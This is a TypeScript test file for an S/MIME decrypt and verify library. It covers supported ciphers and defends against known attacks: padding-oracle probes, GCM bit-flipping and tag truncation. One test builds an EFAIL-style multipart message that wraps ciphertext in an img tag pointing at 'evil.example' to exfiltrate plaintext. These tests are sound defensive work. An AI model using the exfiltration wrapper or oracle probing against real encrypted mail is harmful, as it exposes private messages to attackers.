import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { octetString, oid, readDer, sequence, tags, writeDer } from '../../src/smime/encoding/der.js'
import { oids } from '../../src/smime/encoding/oids.js'
import { decrypt, verify } from '../../src/smime/index.js'
import { authority, person, pkcs12 } from '../certificates/certificates.js'
import {
  alice,
  bob,
  encryptedFor,
  entity,
  identityOf,
  messageOf,
  signedBy,
  trust,
} from './reading/messages.js'
import { cmsEntity, cmsIn } from './reading/surgery.js'

const asBob = () => ({ identity: identityOf(bob()), trust: trust() })
const failure = (promise: Promise<unknown>) =>
  promise.then(
    () => 'decrypted',
    ({ code, message }) => `${code}: ${message}`,
  )

describe('an encrypted message', () => {
  it.each([
    ['AES-128', ['-aes128']],
    ['AES-192', ['-aes192']],
    ['AES-256', ['-aes256']],
    ['AES-128-GCM', ['-aes-128-gcm']],
    ['AES-256-GCM', ['-aes-256-gcm']],
    ['BER of indefinite length', ['-aes256', '-stream', '-indef']],
    ['a subject key identifier', ['-aes256', '-keyid']],
  ])('is decrypted: %s', async (_, options) => {
    const result = await decrypt(messageOf(encryptedFor([bob()], entity, ...options)), asBob())
    expect(result.status === 'unsigned' && result.unverifiedContent.toString()).toBe(entity)
    expect(result.layers).toMatchObject([{ kind: 'encrypted', recipients: 1, openedWith: bobSummary() }])
  })

  it.each([
    ['SHA-1', []],
    ['SHA-256', ['-keyopt', 'rsa_oaep_md:sha256']],
    ['SHA-256 with MGF1 of SHA-1', ['-keyopt', 'rsa_oaep_md:sha256', '-keyopt', 'rsa_mgf1_md:sha1']],
    ['a label', ['-keyopt', 'rsa_oaep_label:0102']],
  ])('is decrypted: RSA-OAEP, %s', async (_, options) => {
    const oaep = ['-recip', bob().certificate, '-keyopt', 'rsa_padding_mode:oaep', ...options]
    const result = await decrypt(messageOf(encryptedFor([], entity, ...oaep)), asBob())
    expect(result.status === 'unsigned' && result.unverifiedContent.toString()).toBe(entity)
  })

  it('is decrypted by any of several recipients, and by the right one of several identities', async () => {
    const message = messageOf(encryptedFor([alice(), bob()]))
    for (const identity of [
      identityOf(alice()),
      [identityOf(alice()), identityOf(bob())],
      identityOf(bob()),
    ]) {
      expect(await decrypt(message, { identity })).toMatchObject({ status: 'unsigned' })
    }
  })

  it('is decrypted with a PKCS#12 file', async () => {
    const identity = { p12: readFileSync(pkcs12(bob(), 'secret')), passphrase: 'secret' }
    expect(await decrypt(messageOf(encryptedFor([bob()])), { identity })).toMatchObject({
      status: 'unsigned',
    })
  })

  it('that is empty, or large, is decrypted', async () => {
    for (const content of ['', 'x'.repeat(500_000)]) {
      const result = await decrypt(messageOf(encryptedFor([bob()], content, '-stream')), asBob())
      expect(result.status === 'unsigned' && result.unverifiedContent.toString()).toBe(content)
    }
  })

  it('with a good signature inside has content, and any other unverifiedContent', async () => {
    const good = await decrypt(messageOf(encryptedFor([bob()], signedBy([alice()]))), asBob())
    expect(good).toMatchObject({ status: 'verified', content: Buffer.from(entity) })
    expect(good).not.toHaveProperty('unverifiedContent')
    const changed = signedBy([alice()]).toString('latin1').replace('quiet', 'Quiet')
    const bad = await decrypt(messageOf(encryptedFor([bob()], changed)), asBob())
    expect(bad).toMatchObject({ status: 'broken', unverifiedContent: expect.any(Buffer) })
    expect(bad).not.toHaveProperty('content')
  })

  it('in CBC is marked as not authenticated, and one in GCM is not', async () => {
    const codes = async (algorithm: string) =>
      (await decrypt(messageOf(encryptedFor([bob()], entity, algorithm)), asBob())).reasons.map(
        ({ code }) => code,
      )
    expect(await codes('-aes256')).toContain('UNAUTHENTICATED_ENCRYPTION')
    expect(await codes('-aes-256-gcm')).not.toContain('UNAUTHENTICATED_ENCRYPTION')
  })

  it('with 3DES is decrypted only where that is allowed', async () => {
    const message = messageOf(encryptedFor([bob()], entity, '-des3'))
    expect(await failure(decrypt(message, asBob()))).toMatch(/DECRYPTION_FAILED: .*3DES/)
    expect(
      (await decrypt(message, { ...asBob(), allow: ['3des'] })).reasons.map(({ code }) => code),
    ).toContain('OLD_ALGORITHM')
  })
})

const bobSummary = () => ({ addresses: ['bob@example.com'] })

describe('what is not decrypted', () => {
  it.each([
    ['nothing encrypted', messageOf(entity), 'NOT_ENCRYPTED'],
    ['for others', () => messageOf(encryptedFor([alice()])), 'DECRYPTION_FAILED'],
    [
      'damaged at its end',
      () => messageOf(cmsEntity(cmsIn(encryptedFor([bob()])).subarray(0, -3))),
      'DECRYPTION_FAILED',
    ],
  ])('%s', async (_, message, code) => {
    const bytes = typeof message === 'function' ? message() : message
    expect(await failure(decrypt(bytes, asBob()))).toContain(code)
  })

  it('a part beside others, which could carry it away', async () => {
    const encrypted = encryptedFor([bob()])
      .toString('latin1')
      .replace(/^MIME-Version.*\r?\n/, '')
    const parts = ['<img src="http://evil.example/', encrypted, '">']
    const message = `MIME-Version: 1.0\r\nFrom: a@example.com\r\nContent-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n${parts[0]}\r\n--m\r\n${parts[1]}\r\n--m\r\nContent-Type: text/html\r\n\r\n${parts[2]}\r\n--m--\r\n`
    expect(await failure(decrypt(Buffer.from(message, 'latin1'), asBob()))).toMatch(
      /NOT_ENCRYPTED: only a part/,
    )
    expect(await verify(Buffer.from(message, 'latin1'), asBob())).toMatchObject({ status: 'unsigned' })
  })
})

describe('an attacker who sends messages and hears the answers', () => {
  const cms = () => cmsIn(encryptedFor([bob()], 'x'.repeat(100)))
  const answer = (bytes: Buffer) => failure(decrypt(messageOf(cmsEntity(bytes, 'enveloped-data')), asBob()))
  const noise = 'DECRYPTION_FAILED: it does not decrypt: it is damaged, or was encrypted for another key'

  it('learns nothing about the padding of the key', async () => {
    const bytes = cms()
    // The encrypted key is the OCTET STRING of 256 octets.
    const at = bytes.indexOf(Buffer.from('04820100', 'hex')) + 4
    const answers = new Set<string>()
    for (let change = 0; change < 40; change++) {
      const changed = Buffer.from(bytes)
      changed[at + change * 6] = (changed[at + change * 6] ?? 0) ^ 0x40
      answers.add(await answer(changed))
    }
    const zeros = Buffer.from(bytes)
    zeros.fill(0, at, at + 256)
    answers.add(await answer(zeros))
    const ones = Buffer.from(bytes)
    ones.fill(0xff, at, at + 256)
    answers.add(await answer(ones))
    // One random key in 256 happens to leave a padding that fits; then there is noise.
    answers.delete('decrypted')
    expect([...answers]).toEqual([noise])
  })

  it('learns nothing about the padding of the content but that it is wrong', async () => {
    const bytes = cms()
    const answers = new Set<string>()
    for (let last = 1; last <= 40; last++) {
      const changed = Buffer.from(bytes)
      changed[bytes.length - 16 - last] = (changed[bytes.length - 16 - last] ?? 0) ^ 0xff
      answers.add(await answer(changed))
    }
    answers.delete('decrypted')
    expect([...answers].every((one) => one === noise)).toBe(true)
  })

  it('cannot change a bit of a message in GCM', async () => {
    const bytes = cmsIn(encryptedFor([bob()], entity, '-aes-256-gcm'))
    for (let back = 1; back < 70; back += 3) {
      const changed = Buffer.from(bytes)
      const at = changed.length - back
      changed[at] = (changed[at] ?? 0) ^ 1
      expect(await answer(changed)).toMatch(/^DECRYPTION_FAILED/)
    }
  })

  it.each([0, 4, 12, 15])('cannot shorten its tag to %i octets', async (length) => {
    const bytes = cmsIn(encryptedFor([bob()], entity, '-aes-256-gcm'))
    const outer = readDer(bytes)
    const fields = outer.children[1]?.children[0]?.children ?? []
    const [version, recipients, content] = fields
    const tag = fields.at(-1)?.content.subarray(0, length) ?? Buffer.alloc(0)
    if (!version || !recipients || !content) throw new Error('no AuthEnvelopedData')
    // Also where the parameters say that it is to be that short.
    const parameters = Buffer.from(content.raw)
    const lengthAt = parameters.indexOf(Buffer.from('020110', 'hex')) + 2
    if (length > 0) parameters[lengthAt] = length
    const inner = sequence(version.raw, recipients.raw, parameters, octetString(tag))
    const changed = sequence(oid(oids.authEnvelopedData), writeDer(tags.context0, inner))
    expect(await answer(changed)).toMatch(/DECRYPTION_FAILED: its authentication tag/)
  })
})

describe('a key agreed on by ECDH', () => {
  it('is not tried with an RSA key, nor RSA with an EC key', async () => {
    const carol = person('carol@example.com', { key: 'ec', issuer: authority() })
    const message = messageOf(encryptedFor([carol]))
    expect(await failure(decrypt(message, asBob()))).toContain('DECRYPTION_FAILED')
  })
})
